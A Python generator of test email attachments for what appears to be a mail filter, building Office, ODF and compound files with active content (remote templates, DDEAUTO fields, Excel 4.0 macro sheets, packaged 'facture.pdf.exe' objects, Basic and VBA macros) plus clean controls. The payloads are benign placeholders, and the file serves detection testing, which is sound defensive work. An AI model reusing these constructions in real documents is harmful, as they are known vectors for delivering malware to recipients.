"""
threats_office.py - active content in Office documents (issue 15) that
byte searches missed, and the ordinary Office files of a practice that
must stay accepted.

Threats: a remote template in a UTF-16 relationship part; one with
upper-case part names, a namespace prefix and other whitespace; a DDEAUTO
field split across runs in a .docx; a DDE link part in an .xlsx; Excel 4.0
macro sheets in an .xlsx and in a BIFF8 .xls; an OLE Package object
(a packaged program) in a .docx embedding and in a .doc's ObjectPool; an
ODF text with a Basic macro, one with an event script, a password-
protected one; a Word 2003 XML document carrying ActiveMime; a Flat OPC
document with a VBA project.

Clean controls (known sender: accepted): a .docx with a table, a picture
and an embedded .xlsx chart; an .xlsx with formulas and shared strings; a
.pptx with a picture; an .odt with a table and a picture; an .ods; an
Excel 97 .xls workbook, alone and inside a .zip.

Compound files are written here (MS-CFB version 3, streams padded to the
mini stream cut-off so they all live in regular sectors); the BIFF8
workbook has the records Excel needs to open it (BOF, BOUNDSHEET, EOF,
the sheet's DIMENSIONS and cells). Deterministic: fixed names and bytes.
"""

import struct
import zlib

import gen_corpus as gc
from threatlib import MIME_DOC, MIME_OCTET, attach, sample, zipped

HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "application/vnd.openxmlformats-officedocument."
MIME_XLSX = OFFICE + "spreadsheetml.sheet"
MIME_PPTX = OFFICE + "presentationml.presentation"
MIME_XLS = "application/vnd.ms-excel"
MIME_ODT = "application/vnd.oasis.opendocument.text"
MIME_ODS = "application/vnd.oasis.opendocument.spreadsheet"


def package(parts):
    return gc.make_zip([gc.zip_entry(name, data if isinstance(data, bytes) else data.encode())
                        for name, data in parts])


def rels(*entries):
    body = "".join('<Relationship Id="rId%d" Type="%s" Target="%s"%s/>'
                   % (i + 1, t if t.startswith("http") else REL + t, target,
                      ' TargetMode="External"' if external else "")
                   for i, (t, target, external) in enumerate(entries))
    return HEAD + '<Relationships xmlns="%s">%s</Relationships>' % (REL_NS, body)


def types(defaults=(), overrides=()):
    body = ('<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>')
    body += "".join('<Default Extension="%s" ContentType="%s"/>' % d for d in defaults)
    body += "".join('<Override PartName="%s" ContentType="%s"/>' % o for o in overrides)
    return HEAD + '<Types xmlns="%s">%s</Types>' % (CT_NS, body)


# ================================================================ compound files

SECTOR, CUTOFF = 512, 4096
ENDOFCHAIN, FREESECT, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(tree, clsid=bytes(16)):
    """A compound file from a tree {name: bytes | dict} (dicts are
    storages). Siblings are chained to the right, children hang from their
    storage; every stream is padded to CUTOFF so none is in the mini
    stream."""
    entries = [{"name": "Root Entry", "type": 5, "tree": tree, "clsid": clsid}]

    def add(node):
        ids = []
        for name, value in node["tree"].items():
            entry = {"name": name, "type": 1 if isinstance(value, dict) else 2,
                     "tree": value if isinstance(value, dict) else None,
                     "data": None if isinstance(value, dict) else value, "clsid": bytes(16)}
            entries.append(entry)
            ids.append(len(entries) - 1)
            if entry["tree"] is not None:
                add(entry)
        node["child"] = ids[0] if ids else NOSTREAM
        for i, n in enumerate(ids):
            entries[n]["right"] = ids[i + 1] if i + 1 < len(ids) else NOSTREAM
    add(entries[0])
    sectors, chains = [], []
    for e in entries:
        if e["type"] == 2:
            e["data"] = data = e["data"].ljust(CUTOFF, b"\0")
            data = data.ljust(-(-len(data) // SECTOR) * SECTOR, b"\0")
            e["start"], e["count"] = len(sectors), len(data) // SECTOR
            sectors += [data[i:i + SECTOR] for i in range(0, len(data), SECTOR)]
    dir_count = -(-len(entries) // 4)
    fat_count = 1
    while fat_count * (SECTOR // 4) < fat_count + dir_count + len(sectors):
        fat_count += 1
    base = fat_count + dir_count
    fat = [FATSECT] * fat_count + [fat_count + i + 1 for i in range(dir_count - 1)] + [ENDOFCHAIN]
    directory = b""
    for e in entries:
        if e["type"] == 2:
            fat += [base + e["start"] + i + 1 for i in range(e["count"] - 1)] + [ENDOFCHAIN]
        name = e["name"].encode("utf-16-le") + b"\0\0"
        start, size = (base + e["start"], len(e["data"])) if e["type"] == 2 else (
            ENDOFCHAIN if e["type"] == 5 else 0, 0)
        directory += struct.pack("<64sHBBIII16sIQQIII", name.ljust(64, b"\0"), len(name),
                                 e["type"], 1, NOSTREAM, e.get("right", NOSTREAM),
                                 e.get("child", NOSTREAM), e["clsid"], 0, 0, 0, start, size, 0)
    directory = directory.ljust(dir_count * SECTOR, b"\0")
    fat += [FREESECT] * (fat_count * (SECTOR // 4) - len(fat))
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", bytes.fromhex("D0CF11E0A1B11AE1"), bytes(16),
                         0x3E, 3, 0xFFFE, 9, 6, bytes(6), 0, fat_count, fat_count, 0, CUTOFF,
                         ENDOFCHAIN, 0, ENDOFCHAIN, 0)
    header += struct.pack("<109I", *(list(range(fat_count)) + [FREESECT] * (109 - fat_count)))
    return header + struct.pack("<%dI" % len(fat), *fat) + directory + b"".join(sectors)


def ole10native(label, data):
    """The Ole10Native stream of a Package object (the "Packager Shell
    Object"): size, type 2, label, source path, then the temporary path
    and the data."""
    path = ("C:\\Users\\secretariat\\Documents\\" + label).encode() + b"\0"
    temp = ("C:\\Users\\SECRET~1\\AppData\\Local\\Temp\\" + label).encode() + b"\0"
    body = (struct.pack("<H", 2) + label.encode() + b"\0" + path + struct.pack("<HH", 0, 3)
            + struct.pack("<I", len(temp)) + temp + struct.pack("<I", len(data)) + data)
    return struct.pack("<I", len(body)) + body


PACKAGE_CLSID = bytes.fromhex("0c00030000000000c000000000000046")


def package_object(label, data):
    """An embedded OLE object of class Package, as Word stores it."""
    return cfb({"\x01Ole10Native": ole10native(label, data),
                "\x01CompObj": b"\x01\x00\xfe\xff\x03\x0a\x00\x00" + b"Package\0"},
               clsid=PACKAGE_CLSID)


def biff(record, data=b""):
    return struct.pack("<HH", record, len(data)) + data


def biff_workbook(sheet_type=0, sheet_name=b"Feuil1"):
    """A BIFF8 workbook stream: the globals substream (BOF, CODEPAGE,
    WINDOW1, one font and XF, BOUNDSHEET, EOF) then the sheet (BOF,
    DIMENSIONS, a label-less number grid, EOF). sheet_type 1 is an Excel
    4.0 macro sheet."""
    bof_globals = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x2775, 0x07CD,
                                           0x000080C9, 0x00000206))
    font = biff(0x0031, struct.pack("<HHHHHBBBB", 200, 0, 0x7FFF, 400, 0, 0, 0, 0, 0)
                + b"\x05\x00Arial")
    xf = biff(0x00E0, struct.pack("<HHHBBBBIIH", 0, 0, 0xFFF5, 0x20, 0, 0, 0, 0, 0, 0x20C0))
    globals_tail = biff(0x000A)
    head = (bof_globals + biff(0x0042, struct.pack("<H", 1252))
            + biff(0x003D, struct.pack("<HHHHHHHHH", 0, 0, 0x3000, 0x2000, 0x38, 0, 0, 1, 600))
            + font + xf)
    sheet_record_len = 4 + 8 + 2 + len(sheet_name)
    sheet_offset = len(head) + sheet_record_len + len(globals_tail)
    boundsheet = biff(0x0085, struct.pack("<IBBBB", sheet_offset, 0, sheet_type,
                                          len(sheet_name), 0) + sheet_name)
    bof_sheet = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010 if sheet_type == 0 else 0x0040,
                                         0x2775, 0x07CD, 0x000080C9, 0x00000206))
    cells = b"".join(biff(0x0203, struct.pack("<HHHd", row, col, 0, float(row * 10 + col)))
                     for row in range(3) for col in range(2))
    sheet = (bof_sheet + biff(0x0200, struct.pack("<IIHHH", 0, 3, 0, 2, 0)) + cells
             + biff(0x000A))
    return head + boundsheet + globals_tail + sheet


def make_xls(sheet_type=0):
    summary = b"\xfe\xff\x00\x00" + bytes(44)
    return cfb({"Workbook": biff_workbook(sheet_type), "\x05SummaryInformation": summary})


def make_doc_with_package():
    fib = struct.pack("<HHHH", 0xA5EC, 0xC1, 0, 0) + bytes(24)
    return cfb({"WordDocument": fib + b"Voir la piece jointe.", "1Table": b"table",
                "ObjectPool": {"_1234567890": {
                    "\x01Ole10Native": ole10native("facture.pdf.exe", gc.make_pe()),
                    "\x01CompObj": b"\x01\x00\xfe\xff\x03\x0a\x00\x00Package\0"}}})


# ================================================================ OOXML

def word_document(body):
    return HEAD + ('<w:document xmlns:w="%s" xmlns:r="%s"><w:body>%s<w:sectPr><w:pgSz '
                   'w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>'
                   % (W_NS, REL[:-1], body))


def docx(document_body, extra=(), doc_rels=(), overrides=(), defaults=()):
    """A Word document: the parts of gen_corpus.make_docx with the body,
    relationships and parts given."""
    parts = [("[Content_Types].xml", types(defaults, (
                ("/word/document.xml", OFFICE + "wordprocessingml.document.main+xml"),)
                + tuple(overrides))),
             ("_rels/.rels", rels(("officeDocument", "word/document.xml", False))),
             ("word/document.xml", word_document(document_body))]
    if doc_rels:
        parts.append(("word/_rels/document.xml.rels", rels(*doc_rels)))
    return package(parts + list(extra))


def paragraph(text):
    return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


SETTINGS = HEAD + ('<w:settings xmlns:w="%s" xmlns:r="%s"><w:attachedTemplate r:id="rId1"/>'
                   '</w:settings>' % (W_NS, REL[:-1]))


def docx_rels_utf16():
    settings_rels = rels(("attachedTemplate", "https://198.51.100.7/modeles/rapport.dotm",
                          True)).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return docx(paragraph("Rapport"), extra=[
        ("word/settings.xml", SETTINGS),
        ("word/_rels/settings.xml.rels", b"\xff\xfe" + settings_rels.encode("utf-16-le"))],
        doc_rels=[("settings", "settings.xml", False)])


def docx_rels_uppercase():
    settings_rels = ('<?xml version="1.0"?>\n<pr:Relationships\n  xmlns:pr="%s">\n'
                     '  <pr:Relationship TargetMode = "External"\n\tTarget=\'\\\\198.51.100.7'
                     '\\partage\\modele.dotm\'\n\tType=\'%sattachedTemplate\'\n\tId="rId1" />\n'
                     '</pr:Relationships>\n' % (REL_NS, REL))
    parts = [("[Content_Types].xml", types((), (
                ("/WORD/DOCUMENT.XML", OFFICE + "wordprocessingml.document.main+xml"),))),
             ("_RELS/.RELS", rels(("officeDocument", "WORD/DOCUMENT.XML", False))),
             ("WORD/DOCUMENT.XML", word_document(paragraph("Rapport"))),
             ("WORD/_RELS/DOCUMENT.XML.RELS", rels(("settings", "SETTINGS.XML", False))),
             ("WORD/SETTINGS.XML", SETTINGS),
             ("WORD/_RELS/SETTINGS.XML.RELS", settings_rels)]
    return package(parts)


def docx_dde():
    runs = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
            '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\Windows\\\\System32\\\\'
            'cmd.exe "/k echo Airlock test"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Mise a jour</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    return docx(paragraph("Veuillez mettre a jour les liens.") + runs)


def xlsx(sheets, extra=(), wb_rels=(), overrides=()):
    """A workbook: sheets is [(name, rel type, target, xml)]."""
    sheet_list = "".join('<sheet name="%s" sheetId="%d" r:id="rId%d"/>' % (name, i + 1, i + 1)
                         for i, (name, _, _, _) in enumerate(sheets))
    workbook = HEAD + ('<workbook xmlns="%s" xmlns:r="%s"><sheets>%s</sheets></workbook>'
                       % (S_NS, REL[:-1], sheet_list))
    parts = [("[Content_Types].xml", types((), (
                ("/xl/workbook.xml", OFFICE + "spreadsheetml.sheet.main+xml"),)
                + tuple(overrides))),
             ("_rels/.rels", rels(("officeDocument", "xl/workbook.xml", False))),
             ("xl/workbook.xml", workbook),
             ("xl/_rels/workbook.xml.rels",
              rels(*([(kind, target, False) for _, kind, target, _ in sheets] + list(wb_rels))))]
    parts += [("xl/" + target, xml) for _, _, target, xml in sheets]
    return package(parts + list(extra))


def worksheet(rows):
    cells = "".join('<row r="%d">%s</row>' % (r + 1, "".join(
        '<c r="%s%d"%s>%s</c>' % ("AB"[c], r + 1, ' t="s"' if isinstance(v, int) else "",
                                  "<v>%d</v>" % v if isinstance(v, int) else v)
        for c, v in enumerate(row))) for r, row in enumerate(rows))
    return HEAD + '<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (S_NS, cells)


def xlsx_ddelink():
    link = HEAD + ('<externalLink xmlns="%s"><ddeLink ddeService="cmd" ddeTopic="/c echo '
                   'Airlock test"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
                   '</ddeLink></externalLink>' % S_NS)
    return xlsx([("Feuil1", "worksheet", "worksheets/sheet1.xml",
                  worksheet([["<v>1</v>", "<v>2</v>"]]))],
                extra=[("xl/externalLinks/externalLink1.xml", link)],
                wb_rels=[("externalLink", "externalLinks/externalLink1.xml", False)],
                overrides=[("/xl/externalLinks/externalLink1.xml",
                            OFFICE + "spreadsheetml.externalLink+xml")])


def xlsx_macrosheet():
    macro = HEAD + ('<xm:macrosheet xmlns="%s" xmlns:xm="http://schemas.microsoft.com/office/'
                    'excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f>'
                    '</c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData>'
                    '</xm:macrosheet>' % S_NS)
    return xlsx([("Feuil1", "worksheet", "worksheets/sheet1.xml",
                  worksheet([["<v>1</v>"]])),
                 ("Macro1", "http://schemas.microsoft.com/office/2006/relationships/"
                  "xlMacrosheet", "macrosheets/sheet1.xml", macro)],
                overrides=[("/xl/macrosheets/sheet1.xml",
                            "application/vnd.ms-excel.macrosheet+xml")])


def docx_package_object():
    ole = ('<w:p><w:r><w:object w:dxaOrig="1520" w:dyaOrig="960"><o:OLEObject '
           'xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" '
           'ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1700000000" r:id="rId9"/>'
           '</w:object></w:r></w:p>')
    return docx(paragraph("Facture en piece jointe.") + ole,
                extra=[("word/embeddings/oleObject1.bin",
                        package_object("facture.pdf.exe", gc.make_pe()))],
                doc_rels=[("oleObject", "embeddings/oleObject1.bin", False)],
                defaults=[("bin", OFFICE + "oleObject")])


# ================================================================ ODF

ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:ooo="http://openoffice.org/2004/office"')
MANIFEST_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"


def odf(mimetype, body, entries=(), extra=(), encrypted=False, events=""):
    """An OpenDocument zip: "mimetype" first and stored, as ODF requires,
    then the manifest, content, styles and the extra parts."""
    content = HEAD + ('<office:document-content %s office:version="1.3"><office:scripts>%s'
                      '</office:scripts><office:body>%s</office:body></office:document-content>'
                      % (ODF_NS, events, body))
    encryption = ('<manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:'
                  'opendocument:xmlns:manifest:1.0#sha256-1k" manifest:checksum="AAAAAAAAAAA'
                  'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="><manifest:algorithm manifest:algorithm-'
                  'name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" manifest:initialisation-'
                  'vector="AAAAAAAAAAAAAAAAAAAAAA=="/><manifest:key-derivation manifest:key-'
                  'derivation-name="PBKDF2" manifest:key-size="32" manifest:iteration-count='
                  '"100000" manifest:salt="AAAAAAAAAAAAAAAAAAAAAA=="/></manifest:encryption-data>'
                  if encrypted else "")
    files = [("content.xml", "text/xml")] + list(entries)
    manifest = HEAD + ('<manifest:manifest xmlns:manifest="%s" manifest:version="1.3">'
                       '<manifest:file-entry manifest:full-path="/" manifest:media-type="%s"/>'
                       % (MANIFEST_NS, mimetype))
    manifest += "".join('<manifest:file-entry manifest:full-path="%s" manifest:media-type="%s"'
                        '%s>%s</manifest:file-entry>'
                        % (path, kind, ' manifest:size="%d"' % len(content)
                           if encrypted and path == "content.xml" else "",
                           encryption if encrypted and path == "content.xml" else "")
                        for path, kind in files)
    manifest += "</manifest:manifest>"
    content_bytes = (gc.prng_bytes(b"odf encrypted content", 1024) if encrypted
                     else content.encode())
    stored = gc.ZipEntry("mimetype", zlib.crc32(mimetype.encode()) & 0xFFFFFFFF,
                         len(mimetype), 0, mimetype.encode())
    members = [gc.zip_entry("META-INF/manifest.xml", manifest.encode()),
               gc.zip_entry("content.xml", content_bytes)]
    members += [gc.zip_entry(name, data if isinstance(data, bytes) else data.encode())
                for name, data in extra]
    return gc.make_zip([stored] + members)


def odt_basic():
    module = HEAD + ('<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument '
                     '1.0//EN" "module.dtd">\n<script:module xmlns:script="http://openoffice'
                     '.org/2000/script" script:name="Module1" script:language="StarBasic">'
                     'Sub Main\n  MsgBox &quot;Airlock test&quot;\nEnd Sub\n</script:module>')
    library = HEAD + ('<library:library xmlns:library="http://openoffice.org/2000/library" '
                      'library:name="Standard" library:readonly="false" library:passwordprotected'
                      '="false"><library:element library:name="Module1"/></library:library>')
    return odf(MIME_ODT, '<office:text><text:p>Compte rendu</text:p></office:text>',
               entries=[("Basic/Standard/Module1.xml", "text/xml"),
                        ("Basic/Standard/script-lb.xml", "text/xml"),
                        ("Basic/script-lc.xml", "text/xml")],
               extra=[("Basic/Standard/Module1.xml", module),
                      ("Basic/Standard/script-lb.xml", library)])


def odt_event_script():
    events = ('<office:event-listeners><script:event-listener script:language="ooo:script" '
              'script:event-name="office:load" xlink:href="vnd.sun.star.script:Standard.Module1.'
              'Main?language=Basic&amp;location=application" xlink:type="simple"/>'
              '</office:event-listeners>')
    return odf(MIME_ODT, '<office:text><text:p>Compte rendu</text:p></office:text>',
               events=events)


def odt_encrypted():
    return odf(MIME_ODT, "", encrypted=True)


# ================================================================ Word 2003 XML, Flat OPC

def word2003_activemime():
    """Word 2003 XML ("Save as XML") whose editdata.mso is an ActiveMime
    container (base64 of "ActiveMime" then a header): how Word carried
    the macros of such a document."""
    import base64
    mso = base64.b64encode(b"ActiveMime\0\0\xf0\x01\xff\xff\xff\xff\x06\x00\x00\x00"
                           + bytes(32)).decode()
    return (HEAD + '<?mso-application progid="Word.Document"?>\r\n'
            '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office" w:macrosPresent="yes" '
            'xml:space="preserve"><w:docSuppData><w:binData w:name="editdata.mso">%s'
            '</w:binData></w:docSuppData><w:body><w:p><w:r><w:t>Compte rendu</w:t></w:r>'
            '</w:p></w:body></w:wordDocument>' % mso).encode()


def flat_opc_vba():
    import base64
    vba = base64.b64encode(cfb({"VBA": {"_VBA_PROJECT": b"\xcc\x61\xff\xff\x00",
                                         "dir": b"\x01"}})).decode()
    return (HEAD + '<?mso-application progid="Word.Document"?>\r\n<pkg:package '
            'xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part '
            'pkg:name="/word/document.xml" pkg:contentType="%swordprocessingml.document.main+xml">'
            '<pkg:xmlData>%s</pkg:xmlData></pkg:part><pkg:part pkg:name="/word/vbaProject.bin" '
            'pkg:contentType="application/vnd.ms-office.vbaProject" pkg:compression="store">'
            '<pkg:binaryData>%s</pkg:binaryData></pkg:part></pkg:package>'
            % (OFFICE, word_document(paragraph("Rapport")).replace(HEAD, ""), vba)).encode()


# ================================================================ clean documents

def clean_docx():
    """A report with a table, a picture and an embedded .xlsx chart."""
    table = ('<w:tbl><w:tblPr><w:tblW w:w="5000" w:type="pct"/></w:tblPr><w:tblGrid><w:gridCol '
             'w:w="4500"/><w:gridCol w:w="4500"/></w:tblGrid>' + "".join(
                 '<w:tr><w:tc><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>%s'
                 '</w:t></w:r></w:p></w:tc></w:tr>' % row
                 for row in (("Examen", "Resultat"), ("Glycemie", "0,95 g/L"))) + '</w:tbl>')
    picture = ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
               'drawingml/2006/wordprocessingDrawing"><wp:extent cx="952500" cy="952500"/>'
               '<wp:docPr id="1" name="Logo"/><a:graphic xmlns:a="http://schemas.openxmlformats'
               '.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/'
               'drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
               'drawingml/2006/picture"><pic:blipFill><a:blip r:embed="rId2"/></pic:blipFill>'
               '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
    page = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
            '"preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
            '</w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    chart = HEAD + ('<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/'
                    'chart" xmlns:r="%s"><c:chart><c:plotArea><c:barChart><c:barDir val="col"/>'
                    '</c:barChart></c:plotArea></c:chart><c:externalData r:id="rId1"/>'
                    '</c:chartSpace>' % REL[:-1])
    return docx(paragraph("Compte rendu de consultation") + table + picture + page
                + '<w:p><w:hyperlink r:id="rId4"><w:r><w:t>example.org</w:t></w:r></w:hyperlink>'
                '</w:p>',
                extra=[("word/media/image1.png", gc.make_png()),
                       ("word/charts/chart1.xml", chart),
                       ("word/charts/_rels/chart1.xml.rels",
                        rels(("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", False))),
                       ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", clean_xlsx())],
                doc_rels=[("styles", "styles.xml", False), ("image", "media/image1.png", False),
                          ("chart", "charts/chart1.xml", False),
                          ("hyperlink", "https://www.example.org/resultats", True)],
                defaults=[("png", "image/png"), ("xlsx", MIME_XLSX)],
                overrides=[("/word/charts/chart1.xml", OFFICE + "drawingml.chart+xml")])


def clean_xlsx():
    strings = HEAD + ('<sst xmlns="%s" count="2" uniqueCount="2"><si><t>Patient</t></si>'
                      '<si><t>Total</t></si></sst>' % S_NS)
    sheet = worksheet([[0, "<v>12</v>"], [1, "<f>SUM(B1:B1)</f><v>12</v>"],
                       ["<f>IF(B1&gt;10,\"haut|bas\",\"ok\")</f>", "<v>3</v>"]])
    return xlsx([("Feuil1", "worksheet", "worksheets/sheet1.xml", sheet)],
                extra=[("xl/sharedStrings.xml", strings)],
                wb_rels=[("sharedStrings", "sharedStrings.xml", False)],
                overrides=[("/xl/worksheets/sheet1.xml", OFFICE + "spreadsheetml.worksheet+xml"),
                           ("/xl/sharedStrings.xml", OFFICE + "spreadsheetml.sharedStrings+xml")])


def clean_pptx():
    p_ns = "http://schemas.openxmlformats.org/presentationml/2006/main"
    presentation = HEAD + ('<p:presentation xmlns:p="%s" xmlns:r="%s"><p:sldIdLst><p:sldId '
                           'id="256" r:id="rId1"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"'
                           '/></p:presentation>' % (p_ns, REL[:-1]))
    slide = HEAD + ('<p:sld xmlns:p="%s" xmlns:a="http://schemas.openxmlformats.org/drawingml/'
                    '2006/main" xmlns:r="%s"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>'
                    'Protocole de soins</a:t></a:r></a:p></p:txBody></p:sp><p:pic><p:blipFill>'
                    '<a:blip r:embed="rId1"/></p:blipFill></p:pic></p:spTree></p:cSld></p:sld>'
                    % (p_ns, REL[:-1]))
    return package([("[Content_Types].xml", types((("png", "image/png"),), (
                        ("/ppt/presentation.xml", OFFICE + "presentationml.presentation.main+xml"),
                        ("/ppt/slides/slide1.xml", OFFICE + "presentationml.slide+xml")))),
                    ("_rels/.rels", rels(("officeDocument", "ppt/presentation.xml", False))),
                    ("ppt/presentation.xml", presentation),
                    ("ppt/_rels/presentation.xml.rels", rels(("slide", "slides/slide1.xml",
                                                              False))),
                    ("ppt/slides/slide1.xml", slide),
                    ("ppt/slides/_rels/slide1.xml.rels", rels(("image", "../media/image1.png",
                                                               False))),
                    ("ppt/media/image1.png", gc.make_png())])


def clean_odt():
    body = ('<office:text><text:p>Compte rendu de consultation</text:p><table:table '
            'table:name="Resultats"><table:table-column table:number-columns-repeated="2"/>'
            '<table:table-row><table:table-cell office:value-type="string"><text:p>Glycemie'
            '</text:p></table:table-cell><table:table-cell office:value-type="float" '
            'office:value="0.95"><text:p>0,95</text:p></table:table-cell></table:table-row>'
            '</table:table><text:p><draw:frame draw:name="Logo" svg:width="2cm" svg:height="2cm">'
            '<draw:image xlink:href="Pictures/logo.png" xlink:type="simple"/></draw:frame>'
            '</text:p></office:text>')
    return odf(MIME_ODT, body, entries=[("Pictures/logo.png", "image/png")],
               extra=[("Pictures/logo.png", gc.make_png())])


def clean_ods():
    body = ('<office:spreadsheet><table:table table:name="Feuille1"><table:table-row>'
            '<table:table-cell office:value-type="float" office:value="12"><text:p>12</text:p>'
            '</table:table-cell><table:table-cell table:formula="of:=SUM([.A1])" '
            'office:value-type="float" office:value="12"><text:p>12</text:p></table:table-cell>'
            '</table:table-row></table:table></office:spreadsheet>')
    return odf(MIME_ODS, body)


# ================================================================ samples

@sample("office-rels-utf16.eml", item="rapport.docx", reasons=["macro"])
def rels_utf16(s):
    return attach(s, docx_rels_utf16(), gc.MIME_DOCX, "rapport.docx")


@sample("office-rels-uppercase.eml", item="rapport.docx", reasons=["macro"])
def rels_uppercase(s):
    return attach(s, docx_rels_uppercase(), gc.MIME_DOCX, "rapport.docx")


@sample("office-docx-dde.eml", item="liens.docx", reasons=["macro"])
def dde_docx(s):
    return attach(s, docx_dde(), gc.MIME_DOCX, "liens.docx")


@sample("office-xlsx-ddelink.eml", item="tableau.xlsx", reasons=["macro"])
def dde_xlsx(s):
    return attach(s, xlsx_ddelink(), MIME_XLSX, "tableau.xlsx")


@sample("office-xlsx-xlm-macrosheet.eml", item="tableau.xlsx", reasons=["macro"])
def xlm_xlsx(s):
    return attach(s, xlsx_macrosheet(), MIME_XLSX, "tableau.xlsx")


@sample("office-xls-xlm-macrosheet.eml", item="tableau.xls", reasons=["macro"])
def xlm_xls(s):
    return attach(s, make_xls(sheet_type=1), MIME_XLS, "tableau.xls")


@sample("office-docx-package-object.eml", item="facture.docx", reasons=["executable"])
def package_docx(s):
    return attach(s, docx_package_object(), gc.MIME_DOCX, "facture.docx")


@sample("office-doc-package-object.eml", item="facture.doc", reasons=["executable"])
def package_doc(s):
    return attach(s, make_doc_with_package(), MIME_DOC, "facture.doc")


@sample("office-odt-basic-macro.eml", item="courrier.odt", reasons=["macro"])
def odt_macro(s):
    return attach(s, odt_basic(), MIME_ODT, "courrier.odt")


@sample("office-odt-event-script.eml", item="courrier.odt", reasons=["macro"])
def odt_event(s):
    return attach(s, odt_event_script(), MIME_ODT, "courrier.odt")


@sample("office-odt-encrypted.eml", item="courrier.odt", reasons=["encrypted"])
def odt_password(s):
    return attach(s, odt_encrypted(), MIME_ODT, "courrier.odt")


@sample("office-word2003-activemime.eml", item="rapport.doc", reasons=["macro"])
def word2003(s):
    return attach(s, word2003_activemime(), MIME_DOC, "rapport.doc")


@sample("office-flat-opc-vba.eml", item="rapport.xml", reasons=["macro"])
def flat_opc(s):
    return attach(s, flat_opc_vba(), "application/xml", "rapport.xml")


@sample("office-clean-docx.eml", item="compte-rendu.docx", clean=True)
def docx_ok(s):
    return attach(s, clean_docx(), gc.MIME_DOCX, "compte-rendu.docx")


@sample("office-clean-xlsx.eml", item="resultats.xlsx", clean=True)
def xlsx_ok(s):
    return attach(s, clean_xlsx(), MIME_XLSX, "resultats.xlsx")


@sample("office-clean-pptx.eml", item="protocole.pptx", clean=True)
def pptx_ok(s):
    return attach(s, clean_pptx(), MIME_PPTX, "protocole.pptx")


@sample("office-clean-odt.eml", item="compte-rendu.odt", clean=True)
def odt_ok(s):
    return attach(s, clean_odt(), MIME_ODT, "compte-rendu.odt")


@sample("office-clean-ods.eml", item="resultats.ods", clean=True)
def ods_ok(s):
    return attach(s, clean_ods(), MIME_ODS, "resultats.ods")


@sample("office-clean-xls.eml", item="resultats.xls", clean=True)
def xls_ok(s):
    return attach(s, make_xls(), MIME_XLS, "resultats.xls")


@sample("office-clean-xls-in-zip.eml", item="documents.zip", clean=True)
def xls_zip_ok(s):
    return attach(s, zipped([("resultats.xls", make_xls()), ("lettre.docx", gc.make_docx())]),
                  gc.MIME_ZIP, "documents.zip")
